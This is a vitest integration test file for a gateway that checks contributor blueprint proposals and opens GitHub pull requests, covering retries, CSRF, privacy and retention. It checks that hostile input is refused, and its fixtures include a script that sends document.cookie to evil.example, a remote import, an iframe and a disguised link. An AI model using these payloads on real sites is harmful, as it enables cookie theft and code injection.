/**
 * Sending a proposal through the gateway: checked again on the server, stored, and opened as
 * one pull request by the GitHub App on the fake GitHub, whatever the browser or GitHub does.
 */
import { execFile } from 'node:child_process';
import { randomUUID } from 'node:crypto';
import { readFileSync } from 'node:fs';
import { promisify } from 'node:util';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { settingsFromEnv } from '../../gateway/src/config';
import { applyRetention } from '../../gateway/src/retention';
import { parseSource } from '../../src/lib/content/front-matter';
import { startGateway, type Gateway } from '../../gateway/src/server';
import { projectRoot, secondaryRateLimitMessage } from '../support/fake-github';
import { goodAnswers, likelyDuplicate, repository, startHarness, until, Visitor, type Harness } from './harness';

let h: Harness;
let gateway: Gateway;
let n = 0;

beforeAll(async () => {
  h = await startHarness({ GATEWAY_REQUESTS_PER_MINUTE: '100000', GATEWAY_CODES_PER_HOUR: '1000', GATEWAY_SUBMISSIONS_PER_HOUR: '1000', GATEWAY_MAX_ATTEMPTS: '3', GATEWAY_BODY_LIMIT_BYTES: '65536' });
  gateway = await startGateway(settingsFromEnv(h.env));
});

afterAll(async () => {
  await gateway?.close();
  await h?.close();
});

/** A signed-in contributor with their own address. */
async function contributor(): Promise<{ v: Visitor; email: string }> {
  const email = `contributor.${++n}@nhs.net`;
  const v = new Visitor(gateway.url);
  await v.signIn(email, h.smtp);
  return { v, email };
}

/** Distinct answers for each test, so each proposal is a new blueprint. */
const answersFor = (i: number, overrides: Record<string, unknown> = {}) =>
  goodAnswers({ title: `Training ${1000 + i} nurses on a new EPR with super-users`, ...overrides });

const pulls = () => h.fake.pulls(repository);
const pullFor = (id: string) => pulls().filter((p) => p.pull!.headRef === `gateway/${id}`);
const sent = (id: string) => until(() => gateway.store.get(id)?.state === 'sent', `submission ${id} to be sent`);

describe('a good proposal', () => {
  it('is accepted at once and becomes one labelled pull request from the GitHub App', async () => {
    const { v, email } = await contributor();
    const answer = await v.submit(answersFor(1));
    expect(answer.status).toBe(202);
    const id = answer.body.id as string;
    await sent(id);
    const [pull] = pullFor(id);
    expect(pull.user).toBe('blueprint-gateway[bot]');
    expect(pull.labels).toContain('via-gateway');
    expect(pull.title).toBe('Blueprint: Training 1001 nurses on a new EPR with super-users');
    expect(pull.body).toContain('Review checklist');
    expect(pull.body).toContain('At a glance');
    expect(pull.body).toContain('from a verified address at nhs.net');
    expect(pull.body).not.toContain(email);
    const file = h.fake.repo(repository).git.fileAt(h.fake.repo(repository).git.ref(`heads/gateway/${id}`)!, 'src/content/blueprints/training-1001-nurses-on-a-new-epr-with-super-users.mdx');
    expect(file?.toString('utf8')).toContain('title: Training 1001 nurses on a new EPR with super-users');
  });

  it('asks GitHub for an installation token with only contents and pull requests, on the one repository', () => {
    expect(h.fake.issuedTokens.length).toBeGreaterThan(0);
    for (const t of h.fake.issuedTokens) {
      expect(t.permissions).toEqual({ contents: 'write', pull_requests: 'write' });
      expect(t.repos).toEqual([repository]);
    }
  });

  it('emails the contributor the pull request link and a status page that shows it', async () => {
    const { v, email } = await contributor();
    const id = (await v.submit(answersFor(2))).body.id as string;
    await sent(id);
    // The text as the reader sees it: quoted-printable's soft line breaks joined up.
    const text = (m: { raw: string }) => m.raw.replace(/=\r\n/g, '');
    await until(() => h.smtp.messages.some((m) => m.to.includes(email) && text(m).includes('/pull/')), 'the pull request email');
    const mail = text(h.smtp.messages.find((m) => m.to.includes(email) && text(m).includes('/pull/'))!);
    const [pull] = pullFor(id);
    expect(mail).toContain(`/pull/${pull.number}`);
    expect(mail).toContain(`/submissions/${id}`);
    expect(mail).toContain('Blueprint Commons');
    const page = await fetch(`${gateway.url}/submissions/${id}`);
    const html = await page.text();
    expect(page.headers.get('content-type')).toContain('text/html');
    expect(html).toContain('Sent for review');
    expect(html).toContain('Your blueprint proposal is a proposed change on GitHub');
    expect(html).toContain(`/pull/${pull.number}`);
    expect(html).toMatch(/\d{1,2} [A-Z][a-z]+ \d{4}(?: at|,) \d\d:\d\d UK time/);
    expect(html).toContain('/contribute/">Propose another blueprint');
    expect(html).not.toContain(email);
    // Styled from the gateway's own address, the only one its content security policy allows styles from.
    const href = /<link rel="stylesheet" href="([^"]+)">/.exec(html)?.[1];
    expect(href).toBe('/assets/status-page.css');
    expect(page.headers.get('content-security-policy')).toContain("style-src 'self'");
    const styles = await fetch(`${gateway.url}${href}`);
    expect(styles.status).toBe(200);
    expect(styles.headers.get('content-type')).toContain('text/css');
    expect(await styles.text()).toContain('#005eb8');
  });

  it('names the contributor only when they ask to be, by name and never by address', async () => {
    const { v, email } = await contributor();
    const id = (await v.submit(answersFor(3), { credit: { named: true, name: 'Grace Hopper' } })).body.id as string;
    await sent(id);
    const [pull] = pullFor(id);
    expect(pull.body).toContain('by Grace Hopper, from a verified address at nhs.net');
    expect(pull.body).not.toContain(email);
  });

  it('makes a credited name inert in the pull request: no link or issue reference', async () => {
    const { v } = await contributor();
    const id = (await v.submit(answersFor(40), { credit: { named: true, name: 'Jo [verify here](//evil.example) #1' } })).body.id as string;
    await sent(id);
    const [pull] = pullFor(id);
    const line = pull.body!.split('\n').find((l) => l.startsWith('Sent through the submission gateway by '))!;
    expect(line).toContain('\\[verify here\\]');
    expect(line).not.toMatch(/[^\\]\[verify here\]\(/);
    expect(line).not.toContain('#1');
  });

  it('updates the same pull request when the contributor changes their answers', async () => {
    const { v } = await contributor();
    const id = (await v.submit(answersFor(4))).body.id as string;
    await sent(id);
    const changed = await v.send('PUT', `/api/submissions/${id}`, { answers: answersFor(4, { 'outcome-headline': 'Eight in ten nurses felt ready on day one.' }) });
    expect(changed.status).toBe(202);
    await until(() => gateway.store.get(id)?.sentVersion === 2 && gateway.store.get(id)?.state === 'sent', 'the change to be sent');
    const mine = pullFor(id);
    expect(mine).toHaveLength(1);
    expect(mine[0].body).toContain('Eight in ten nurses felt ready on day one.');
  });

  it("does not let someone else change a submission", async () => {
    const { v } = await contributor();
    const id = (await v.submit(answersFor(5))).body.id as string;
    const other = await contributor();
    const answer = await other.v.send('PUT', `/api/submissions/${id}`, { answers: answersFor(5, { title: 'Something else entirely written by another' }) });
    expect(answer.status).toBe(404);
    await sent(id);
  });
});

describe('nothing twice', () => {
  it('makes one submission and one pull request of a double click (the same idempotency key twice at once)', async () => {
    const { v } = await contributor();
    const body = { idempotencyKey: randomUUID(), answers: answersFor(6) };
    const [a, b] = await Promise.all([v.send('POST', '/api/submissions', body), v.send('POST', '/api/submissions', body)]);
    expect([a.status, b.status].sort()).toEqual([200, 202]);
    expect(a.body.id).toBe(b.body.id);
    const retried = await v.send('POST', '/api/submissions', body);
    expect(retried.body.id).toBe(a.body.id);
    await sent(a.body.id as string);
    expect(pullFor(a.body.id as string)).toHaveLength(1);
    expect(gateway.store.list().filter((s) => s.idempotencyKey === body.idempotencyKey)).toHaveLength(1);
  });

  it('refuses a form key already sent from another address, even when both arrive at once', async () => {
    const [first, second] = [await contributor(), await contributor()];
    const body = { idempotencyKey: randomUUID(), answers: answersFor(16) };
    // Both are checked at the same time, so neither finds the other's submission before its check.
    const answers = await Promise.all([first.v.send('POST', '/api/submissions', body), second.v.send('POST', '/api/submissions', body)]);
    expect(answers.map((a) => a.status).sort()).toEqual([202, 409]);
    const stored = gateway.store.list().filter((s) => s.idempotencyKey === body.idempotencyKey);
    expect(stored).toHaveLength(1);
    const refused = answers.find((a) => a.status === 409)!;
    expect(refused.body.id).toBeUndefined();
    expect(refused.body.errors![0].message).toMatch(/another address/);
    await sent(stored[0].id);
    expect(pullFor(stored[0].id)).toHaveLength(1);
  });

  it('keeps the database in WAL mode with a busy timeout, so the status command can read while the gateway writes', () => {
    expect(gateway.store.db.prepare('PRAGMA journal_mode').get()).toEqual({ journal_mode: 'wal' });
    expect((gateway.store.db.prepare('PRAGMA busy_timeout').get() as { timeout: number }).timeout).toBeGreaterThanOrEqual(1000);
  });

  it('rides out GitHub server errors and ends with one pull request', async () => {
    h.fake.fail('POST /repos/{owner}/{repo}/git/blobs', { status: 502, times: 6 });
    const { v } = await contributor();
    const id = (await v.submit(answersFor(7))).body.id as string;
    await sent(id);
    expect(pullFor(id)).toHaveLength(1);
    expect(gateway.store.get(id)!.attempts).toBe(2);
    expect(h.fake.requestsTo('POST /repos/{owner}/{repo}/git/blobs').filter((r) => r.status === 502)).toHaveLength(6);
  });

  it('waits out a secondary rate limit and ends with one pull request', async () => {
    h.fake.fail('POST /repos/{owner}/{repo}/pulls', { status: 403, message: secondaryRateLimitMessage, headers: { 'retry-after': '1' }, times: 2 });
    const { v } = await contributor();
    const id = (await v.submit(answersFor(8))).body.id as string;
    await sent(id);
    expect(pullFor(id)).toHaveLength(1);
  });

  it('keeps a submission GitHub refuses visible as failed, and a maintainer can re-queue it', async () => {
    h.fake.fail('POST /repos/{owner}/{repo}/pulls', { status: 422, message: 'Validation Failed', times: 1 });
    const { v } = await contributor();
    const id = (await v.submit(answersFor(9))).body.id as string;
    await until(() => gateway.store.get(id)?.state === 'failed', 'the submission to fail');
    expect(gateway.store.get(id)!.lastError).toMatch(/422/);
    expect(pullFor(id)).toHaveLength(0);

    const cli = (...args: string[]) =>
      promisify(execFile)(process.execPath, ['--import', 'tsx', 'gateway/src/cli.ts', ...args], { cwd: projectRoot, env: { PATH: process.env.PATH, GATEWAY_DATABASE: h.database } });
    const status = await cli('status');
    expect(status.stdout).toMatch(new RegExp(`failed \\(1\\)\\n  ${id} .*last error: .*422`));
    const retried = await cli('retry', id);
    expect(retried.stdout).toContain('queued again');
    await sent(id);
    expect(pullFor(id)).toHaveLength(1);
    expect((await cli('status')).stdout).toMatch(new RegExp(`${id} .*https://github.com/${repository}/pull/${pullFor(id)[0].number}`));
  });
});

describe('answers the browser did not check', () => {
  it('refuses hostile MDX posted straight to the API, beside the section it is in, and stores nothing', async () => {
    const { v } = await contributor();
    const before = gateway.store.list().length;
    for (const hostile of [
      'Read this.\n\n<script>fetch("https://evil.example/?c=" + document.cookie)</script>',
      'Our results: {globalThis.process.exit(1)}',
      'import Evil from "https://evil.example/x.js"\n\n<Evil />',
      '<iframe src="https://evil.example"></iframe>',
    ]) {
      const answer = await v.submit(answersFor(10, { 'section-what-we-did': hostile }));
      expect(answer.status, hostile).toBe(422);
      expect(answer.body.errors?.[0].id, hostile).toBe('section-what-we-did');
    }
    expect(gateway.store.list().length).toBe(before);
  });

  it('answers schema problems field by field', async () => {
    const { v } = await contributor();
    const answer = await v.submit(answersFor(11, { title: 'Short', 'cost-band': '' }));
    expect(answer.status).toBe(422);
    expect(answer.body.errors?.map((e) => e.id)).toEqual(['title', 'cost-band']);
  });

  it('says a proposal reads like an existing blueprint, and takes it once the contributor confirms it is different work', async () => {
    const { existing, answers } = likelyDuplicate();
    const { v } = await contributor();
    const first = await v.submit(answers);
    expect(first.status).toBe(422);
    expect(first.body.errors).toEqual([{ id: 'title', message: expect.stringContaining(`/blueprints/${existing}/`) }]);

    const confirmed = await v.submit(answers, { notDuplicate: true });
    expect(confirmed.status).toBe(202);
    await sent(confirmed.body.id as string);
    expect(pullFor(confirmed.body.id as string)[0].body).toMatch(new RegExp(`Close to existing blueprints.*\\\`${existing}\\\``));
  });

  it('says beside the summary when it is an existing blueprint\u2019s summary, though the rest is different work', async () => {
    const existing = 'ambulance-electronic-patient-care-records';
    const { data } = parseSource(readFileSync(`${projectRoot}/src/content/blueprints/${existing}.mdx`, 'utf8')) as { data: { summary: string } };
    const { v } = await contributor();
    const first = await v.submit(answersFor(18, { summary: data.summary }));
    expect(first.status).toBe(422);
    expect(first.body.errors).toEqual([{ id: 'summary', message: expect.stringMatching(new RegExp(`^Summary is the summary of “[^”]+” \\(/blueprints/${existing}/\\): read it first.*not a duplicate$`)) }]);
    expect((await v.submit(answersFor(18, { summary: data.summary }), { notDuplicate: true })).status).toBe(202);
  });

  it('refuses a submission from someone not signed in', async () => {
    const v = new Visitor(gateway.url);
    await v.send('GET', '/api/session');
    const answer = await v.submit(answersFor(12));
    expect(answer.status).toBe(401);
  });

  it('refuses a submission without the CSRF token', async () => {
    const { v } = await contributor();
    v.csrf = '';
    expect((await v.submit(answersFor(13))).status).toBe(403);
  });

  it('refuses a body over the size limit with 413', async () => {
    const { v } = await contributor();
    const answer = await v.submit(answersFor(14, { 'section-what-we-did': 'x'.repeat(70_000) }));
    expect(answer.status).toBe(413);
    // The limit set for this gateway (GATEWAY_BODY_LIMIT_BYTES above), not a fixed figure.
    expect(answer.body.errors?.[0].message).toMatch(/too large to send: the most it can hold is 64 KiB/);
  });

  it('says beside the question when one answer is over the characters one answer can hold, and stores nothing', async () => {
    const { v } = await contributor();
    const before = gateway.store.list().length;
    const answer = await v.submit(answersFor(17, { 'section-what-we-did': 'Word '.repeat(4_001) }));
    expect(answer.status).toBe(422);
    expect(answer.body.errors).toEqual([{ id: 'section-what-we-did', message: expect.stringMatching(/^The “What we did” section is 20,005 characters, over the 20,000 one answer can hold: shorten it/) }]);
    expect(gateway.store.list().length).toBe(before);
  });

  it('answers an address it does not have, or one too long to route, in the same shape as every other refusal', async () => {
    const missing = await fetch(`${gateway.url}/nope/%3Cb%3E`);
    expect(missing.status).toBe(404);
    expect(await missing.json()).toEqual({ errors: [{ id: '', message: 'There is nothing at this address: check the link' }] });
    const long = await fetch(`${gateway.url}/api/blueprints/${'a'.repeat(101)}/parts`);
    expect(long.status).toBe(414);
    expect(await long.json()).toEqual({ errors: [{ id: '', message: expect.any(String) }] });
  });

  it('refuses the form when the hidden honeypot field is filled', async () => {
    const { v } = await contributor();
    const before = gateway.store.list().length;
    expect((await v.submit(answersFor(15), { website: 'buy now' })).status).toBe(400);
    expect(gateway.store.list().length).toBe(before);
  });
});

describe('personal data', () => {
  it('leaves no contributor email, and no name not opted in, anywhere in the repository or on its pull requests', async () => {
    const people = gateway.store.list().filter((s) => s.email);
    expect(people.length).toBeGreaterThan(3);
    const git = h.fake.repo(repository).git;
    const history = git.git(['log', '--all', '-p', '--format=%an <%ae> %cn <%ce>%n%B']);
    const github = JSON.stringify(pulls().map((p) => [p.title, p.body, p.pull!.headRef, p.comments]));
    for (const s of people) {
      const local = s.email!.split('@')[0];
      for (const text of [history, github]) {
        expect(text).not.toContain(s.email);
        expect(text).not.toContain(local);
      }
    }
    // The one name given with consent is in the pull request, and only there.
    expect(history).not.toContain('Grace Hopper');
    expect(github).toContain('Grace Hopper');
    expect(history).not.toMatch(/@nhs\.net/);
  });

  it('deletes emails and names after the retention period', () => {
    const named = gateway.store.list().find((s) => s.creditName)!;
    expect(applyRetention(gateway.store, 90, Date.now() + 89 * 86_400_000)).toBe(0);
    expect(applyRetention(gateway.store, 90, Date.now() + 91 * 86_400_000)).toBeGreaterThan(0);
    const after = gateway.store.get(named.id)!;
    expect(after.email).toBeNull();
    expect(after.creditName).toBeNull();
    // The stored pull request text held the name; it goes too, and is made again if ever needed.
    expect(after.payload).toBeNull();
    expect(gateway.store.list().filter((s) => s.email)).toHaveLength(0);
  });
});
